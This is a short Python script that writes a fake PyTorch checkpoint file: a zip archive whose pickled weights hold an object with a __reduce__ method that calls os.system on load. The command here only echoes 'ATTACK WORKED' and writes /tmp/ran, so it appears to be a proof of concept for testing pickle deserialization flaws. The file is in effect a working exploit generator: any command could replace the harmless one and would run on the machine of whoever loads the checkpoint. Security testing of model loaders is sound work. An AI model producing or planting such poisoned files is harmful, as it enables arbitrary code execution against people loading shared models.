"""Writes a .pt as torch.save lays it out: a zip with a pickle inside."""

import os
import pickle
import zipfile


class Attack:
    def __reduce__(self):
        return os.system, ("echo ATTACK WORKED; echo x > /tmp/ran",)


with zipfile.ZipFile("checkpoint.pt", "w") as archive:
    archive.writestr("checkpoint/data.pkl", pickle.dumps({"1.weight": Attack()}, protocol=2))
    archive.writestr("checkpoint/byteorder", "little")
    archive.writestr("checkpoint/version", "3\n")
